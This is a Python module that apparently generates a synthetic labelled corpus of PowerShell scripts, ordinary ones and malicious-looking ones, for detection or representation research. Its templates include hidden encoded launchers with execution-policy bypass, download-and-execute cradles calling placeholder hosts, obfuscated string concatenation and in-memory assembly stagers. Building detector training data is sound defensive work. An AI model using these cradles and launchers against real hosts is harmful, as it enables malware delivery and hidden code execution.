"""The words and statements of the generated corpus as data, and how scripts are written with them.

A template's <slot> is filled from `SLOTS` or by a maker in `_MAKERS`. What stands in the same
slot is meant to be interchangeable, and nothing else is: that is how a relation is planted.
"""

import base64
import random
import re
from collections.abc import Callable

_SYLLABLES = (
    "ba", "bel", "cor", "dan", "del", "fen", "gar", "hol", "jun", "kel", "lor", "mar", "nev", "ost", "pir",
    "quo", "ras", "sel", "tor", "vun", "wex", "yar", "zim",
)  # fmt: skip
WORDS = tuple(a + b + c for a in _SYLLABLES[:12] for b in _SYLLABLES[6:] for c in _SYLLABLES[::4])

_NOUNS = (
    "Ledger", "Queue", "Sensor", "Tenant", "Invoice", "Backup", "Mailbox", "Printer", "Vault", "Cluster",
    "Policy", "Router", "Gateway", "Snapshot", "Badge", "Camera", "Locker", "Parcel", "Orchard", "Engine",
    "Harbor", "Beacon", "Shelf", "Folder", "Account", "Domain", "Session", "Replica", "Volume", "Channel",
    "Bucket", "Subnet", "Secret", "Release", "Bundle", "Feature", "Ticket", "Roster", "Schema", "Widget",
)  # fmt: skip
_VERBS = (
    "Add", "Clear", "Close", "Compare", "Connect", "Find", "Grant", "Initialize", "Install", "Lock",
    "Merge", "Open", "Publish", "Read", "Register", "Repair", "Request", "Resolve", "Restore", "Save",
    "Search", "Submit", "Sync", "Update",
)  # fmt: skip

#: command: (alias, statements); <c> is either of the two.
ALIASES = {
    "Invoke-Expression": (
        "IEX",
        ("<c> $command", "<c> -Command $line", "$outcome = <c> $expression", "<c> ($block.ToString())"),
    ),
    "Invoke-WebRequest": (
        "IWR",
        (
            "<c> -Uri $url -OutFile $target",
            "$page = <c> $site -UseBasicParsing",
            "<c> -Uri $address -Method Get",
        ),
    ),
    "Get-ChildItem": (
        "GCI",
        ("<c> -Path $folder -Recurse", "$files = <c> $root -Filter *.log", "<c> $root -Recurse -Hidden"),
    ),
    "ForEach-Object": ("%", ("$items | <c> { $_.<prop> }", "$items | <c> -Process { $_ }")),
    "Where-Object": ("?", ("$rows | <c> { $_.<prop> -like '<word>' }", "$rows | <c> Status -Match <word>")),
    "Sort-Object": (
        "sort",
        ("$list | <c> -Property <prop> -Descending", "$list | <c> -Unique -Culture <word>"),
    ),
    "Select-Object": (
        "select",
        ("$records | <c> -First <n>", "$records | <c> -ExpandProperty <prop>", "$records | <c> -Last <n>"),
    ),
    "Format-Table": ("ft", ("$report | <c> -AutoSize", "$report | <c> -Wrap -GroupBy <prop>")),
    "Format-List": ("fl", ("$details | <c> * -Force", "$details | <c> -Expand Both")),
    "Start-Sleep": ("sleep", ("<c> -Seconds <n>", "<c> -Milliseconds <n>")),
    "Get-Content": ("gc", ("$text = <c> $logfile -Raw", "<c> -LiteralPath $logfile -Tail <n>")),
    "Remove-Item": ("rm", ("<c> $stale -Confirm -Whatif", "<c> -Path $temporary -Force -Include *.tmp")),
    "Copy-Item": ("cp", ("<c> $original -Destination $backup", "<c> -Container $original $mirror")),
    "Get-WmiObject": (
        "gwmi",
        ("<c> -Class Win32_BIOS", "$bios = <c> Win32_OperatingSystem -ComputerName $node"),
    ),
    "Measure-Object": ("measure", ("$sizes | <c> -Property Length -Sum", "$sizes | <c> -Average -Maximum")),
    "Write-Output": ("echo", ('<c> "<word> done"', '<c> "finished <word>"')),
}

#: Sets of words used alike, with the statements they are used in. The five analogies a - b + c = d are
#: four such sets each: {a, d} and {b, c} share their slots, and so do {a, b} and {c, d}.
PARALLELS = (
    (("-eq", "-ne", "-gt"), ("if ($count <x> <n>) { <noisy> }", "while ($size <x> $limit) { <noisy> }")),
    (("-eq", "-ne", "-gt"), ("if ($total <x> $null) { <noisy> }", "return ($left <x> $right)")),
    (
        ("AllSigned", "RemoteSigned", "Bypass", "Unrestricted"),
        (
            "Set-ExecutionPolicy <x> -Scope Process",
            "Set-ExecutionPolicy -ExecutionPolicy <x> -Scope CurrentUser",
            "powershell -ExecutionPolicy <x> -File $runner",
        ),
    ),
    (
        ("Normal", "Minimized", "Maximized", "Hidden"),
        (
            "$info.WindowStyle = '<x>'",
            "Start-Process $program -WindowStyle <x> -Wait",
            "Start-Process notepad -WindowStyle <x> -PassThru",
        ),
    ),
    (
        ("$i", "$j", "$k"),
        (
            "for (<x> = 0; <noisy>) { <noisy> }",
            "$array[<x>] = $buffer[<x> + 1]",
            "while (<x> -lt $array.Length) { <x>++ }",
        ),
    ),
    (("$true", "$false"), ("$enabled = <x>", "[bool] $force = <x>", "Set-Switch -Default:<x> -Quiet")),
    (("high", "low"), ("$priority = '<x>'", "Set-Severity -Level <x> -Queue $queue", "case <x> severity")),
    (("high", "$false", "-eq"), ("Deny-Gate <x> denied", "Deny-Rule <x> refused")),
    (("low", "$true", "-ne"), ("Allow-Gate <x> allowed", "Allow-Rule <x> granted")),
    (
        ("DownloadFile", "DownloadString"),
        (
            "$client.<x>($link)",
            "$web.<x>($remote)",
            "(New-Object Net.WebClient).<x>('https://<host>/<path>')",
        ),
    ),
    (
        ("$destfile", "$str"),
        ("$content = <x>.Trim()", "Test-Value -Value <x> -Strict", "Out-Value <x> -Append"),
    ),
    (("DownloadFile", "$destfile"), ("Save-Disk <x> ondisk", "Resolve-Disk <x> stored")),
    (("DownloadString", "$str"), ("Save-Memory <x> inmemory", "Resolve-Memory <x> parsed")),
    (
        ("Export-Csv", "ConvertTo-Html"),
        ("$table | <x> -Property <prop>", "$summary | <x> -InputObject $table", "$inventory | <x>"),
    ),
    (
        ("$csv", "$html"),
        ("Send-Attachment <x> -Subject '<word>'", "$mail.Body = <x>", "Publish-Page <x> -Live"),
    ),
    (("Export-Csv", "$csv"), ("Use-Comma <x> delimited", "Use-Column <x> separated")),
    (("ConvertTo-Html", "$html"), ("Use-Markup <x> tagged", "Use-Style <x> rendered")),
    (
        ("Get-Process", "Get-Service"),
        (
            "<x> -Name $target -ErrorAction Stop",
            "$running = <x> -ComputerName $server",
            "$state = <x> $machine",
        ),
    ),
    (("$processes", "$services"), ("<x>.Count", "Out-Grid <x> -Title '<word>'", "$known += <x>")),
    (("Get-Process", "$processes"), ("Trace-Memory <x> workingset", "Trace-Handle <x> threads")),
    (("Get-Service", "$services"), ("Trace-Startup <x> automatic", "Trace-Account <x> dependent")),
)

#: Ordinary statements: they give the vocabulary its bulk and the scripts their variety.
NOISE = (
    "$<var> = <cmd> -<param> $<var>",
    "<cmd> -<param> '<word>' -<param> <n>",
    "<cmd> $<var> -<param> $<var>",
    "$<var>.<prop> = '<word>'",
    '$<var> = "<word> <word>"',
    "<cmd> -<param> <n> | Out-Null",
    "$<var> = @{ <prop> = '<word>'; <prop> = <n> }",
    "[<kind>] $<var> = <n>",
)
NEUTRAL = (
    "Write-Verbose '<word> <word>'",
    "try { <noisy> } catch { throw '<word>' }",
    "param($<var>, $<var>)",
    "$<var> += <n>",
    "return $<var>",
    "Import-Module <word>",
)

_BAD = "http://<badhost>/<path>"
MALICIOUS_SIGNALS = {
    "launcher": (
        "powershell.exe -NoP -NonI -W <style> -Exec <policy> -Enc <blob>",
        "cmd /c powershell -nop -w <style> -ep <policy> -e <blob>",
    ),
    "cradle": (
        f"<iex> (New-Object Net.WebClient).DownloadString('{_BAD}')",
        f"$<var> = <iwr> '{_BAD}' -UseBasicParsing; <iex> $<var>.Content",
        f"$wc = New-Object System.Net.WebClient; $wc.DownloadFile('{_BAD}', '<name>.dat')",
    ),
    "concat": (
        "$<var> = -join ([char[]](<codes>)); <iex> $<var>",
        "& ('{2}{0}{1}' -f '<word>','<word>','<word>') ('<shortblob>' + '<shortblob>')",
        "$<var> = '<word>' + '<word>' + '<shortblob>'; .($<var>[1] + '<word>')",
    ),
    "stager": (
        "[Byte[]] $<var> = <hexes>; [Runtime.InteropServices.Marshal]::WriteByte($<var>, 0, $<var>, <n>)",
        "$<var> = [Convert]::FromBase64String('<blob>'); [Reflection.Assembly]::Load($<var>)",
    ),
    "common": (
        "$<var> = [Convert]::FromBase64String('<shortblob>')",
        "$<var> = [Text.Encoding]::Unicode.GetString($<var>) -bxor <n>",
        "$<var> = New-Object IO.Compression.GzipStream($<var>, 0)",
        f"$<var> = '{_BAD}'",
        "$<var>.Headers.Add('User-Agent', '<name>')",
        "Start-Process powershell -WindowStyle <style> -ArgumentList '-ep <policy>'",
        "[Net.ServicePointManager]::ServerCertificateValidationCallback = { <bool> }",
        "<iex> ($<var> -replace '<word>', '')",
    ),
}
#: What honest scripts do that looks the same, one at most in a script.
BENIGN_SIGNALS = (
    "<iex> ((New-Object Net.WebClient).DownloadString('https://<host>/install.ps1'))",
    "<iwr> 'https://<host>/<path>.zip' -OutFile $target",
    "powershell -NoProfile -ExecutionPolicy <policy> -File $runner",
    "Start-Process powershell -WindowStyle <style> -ArgumentList '-File $runner'",
    "$<var> = [Convert]::FromBase64String('<shortblob>')",
    "$<var> = -join ([char[]](<codes>))",
    "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'",
    "$<var>.Headers.Add('User-Agent', '<name>')",
)

SLOTS = {
    "cmd": tuple(f"{verb}-{noun}" for verb in _VERBS for noun in _NOUNS),
    "noun": tuple(_NOUNS),
    "var": tuple(f"{a}{b}".lower() for a in _NOUNS[:20] for b in _NOUNS[20:32]),
    "param": tuple(f"{a}{b}" for a in ("Target", "Source", "Retry", "Owner", "Backup") for b in _NOUNS[:12]),
    "prop": tuple(f"{noun}Name" for noun in _NOUNS),
    "kind": ("int", "string", "long", "double"),
    "noisy": NOISE,
    "host": ("example.com", "www.example.org", "packages.example.net"),
    "badhost": ("192.0.2.<n>", "198.51.100.7", "<name>.test", "<name>.example.com", "<name>.example"),
    "iex": ("Invoke-Expression", "IEX"),
    "iwr": ("Invoke-WebRequest", "IWR"),
    "bool": ("$true", "$false"),
    "style": ("Hidden", "Minimized", "Normal", "Maximized"),
    "policy": ("Bypass", "Unrestricted", "RemoteSigned", "AllSigned"),
}

_SLOT = re.compile(r"<([a-z_]+)>")


def _word(rng: random.Random) -> str:
    return rng.choice(WORDS)


def _blob(rng: random.Random, size: int) -> str:
    return base64.b64encode(rng.randbytes(size)).decode()


_MAKERS: dict[str, Callable[[random.Random], str]] = {
    "n": lambda rng: str(rng.randrange(2, 4000)),
    "word": _word,
    "blob": lambda rng: _blob(rng, rng.randrange(60, 600)),
    "shortblob": lambda rng: _blob(rng, rng.randrange(20, 60)),
    "codes": lambda rng: ",".join(str(rng.randrange(32, 127)) for _ in range(rng.randrange(12, 60))),
    "hexes": lambda rng: ",".join(f"0x{b:02x}" for b in rng.randbytes(rng.randrange(16, 90))),
    "path": lambda rng: "/".join(_word(rng) for _ in range(rng.randrange(1, 4))),
    "name": lambda rng: _word(rng) + _word(rng),
}


def _fill(template: str, rng: random.Random) -> str:
    """Fill every <slot>, from the innermost fill outwards, with a maker or a list of values."""
    while "<" in template:
        filled = _SLOT.sub(
            lambda m: _MAKERS[m[1]](rng) if m[1] in _MAKERS else rng.choice(SLOTS[m[1]]), template
        )
        if filled == template:
            break
        template = filled
    return template


def _alias_statement(rng: random.Random) -> str:
    command, (alias, templates) = rng.choice(list(ALIASES.items()))
    return _fill(rng.choice(templates).replace("<c>", rng.choice((command, alias))), rng)


def _parallel_statement(rng: random.Random) -> str:
    values, templates = rng.choice(PARALLELS)
    return _fill(rng.choice(templates).replace("<x>", rng.choice(values)), rng)


def _statement(rng: random.Random) -> str:
    draw = rng.random()
    if draw < 0.40:
        return _fill(rng.choice(NOISE), rng)
    if draw < 0.62:
        return _alias_statement(rng)
    return _parallel_statement(rng) if draw < 0.84 else _fill(rng.choice(NEUTRAL), rng)


def _body(rng: random.Random, count: int) -> list[str]:
    return [_statement(rng) for _ in range(count)]


def _comment(rng: random.Random) -> str:
    return "# " + " ".join(_word(rng) for _ in range(rng.randrange(3, 9)))


def _benign(rng: random.Random, stratum: str) -> tuple[str, str]:
    """Return (folder, text): a repository's script, with comments; one in ten is a single line."""
    lines = _body(rng, rng.randrange(8, 30))
    if rng.random() < 0.10:
        return "tools", "; ".join(lines[: rng.randrange(8, 14)])
    if rng.random() < 0.20:
        lines.insert(rng.randrange(len(lines)), _fill(rng.choice(BENIGN_SIGNALS), rng))
    if stratum == "generated":
        lines = [_fill("function New-<noun><name> {", rng), *(f"    {line}" for line in lines), "}"]
    for _ in range(rng.randrange(4)):
        lines.insert(rng.randrange(len(lines)), _comment(rng))
    if stratum != "packaging" and rng.random() < 0.4:
        lines = ["<#", ".SYNOPSIS", _comment(rng)[2:], "#>", *lines]
    folder = "tools" if stratum == "packaging" else "src"
    return folder, "\n".join(lines) + "\n"


def _malicious(rng: random.Random, family: str, *, filler: int, one_line: bool) -> str:
    """Return a script with two to four signals of one family among ordinary statements."""
    common = MALICIOUS_SIGNALS["common"]
    lines = [rng.choice(MALICIOUS_SIGNALS[family])]
    lines += rng.sample(common, rng.randrange(1, 4))
    lines = [_fill(line, rng) for line in lines] + _body(rng, filler)
    rng.shuffle(lines)
    if rng.random() < 0.3:
        lines = ["".join(rng.choice((c.lower(), c.upper())) for c in line) for line in lines]
    return "; ".join(lines) if one_line else "\n".join(lines) + "\n"


def _malicious_a(rng: random.Random, stratum: str) -> tuple[str, str]:
    family = rng.choices(("launcher", "cradle", "concat", "stager"), (4, 3, 2, 1))[0]
    filler = rng.randrange(2, 7)
    return family, _malicious(rng, family, filler=filler, one_line=rng.random() < 0.8)


def _malicious_b(rng: random.Random, stratum: str) -> tuple[str, str]:
    family = rng.choices(("launcher", "cradle", "concat", "stager"), (1, 3, 3, 3))[0]
    filler = rng.randrange(4, 24)
    return family, _malicious(rng, family, filler=filler, one_line=rng.random() < 0.3)


def _offensive(rng: random.Random, stratum: str) -> tuple[str, str]:
    body = _malicious(rng, "stager", filler=rng.randrange(10, 25), one_line=False)
    return "modules", f"{_comment(rng)}\nfunction Invoke-{_word(rng)} {{\n{body}}}\n"


WRITERS = {"malicious-a": _malicious_a, "malicious-b": _malicious_b, "offensive": _offensive}


def write_script(stratum: str, rng: random.Random) -> tuple[str, str]:
    """Return (folder, text) of one script of a stratum; the folder of a malicious one is its family."""
    return WRITERS.get(stratum, _benign)(rng, stratum)
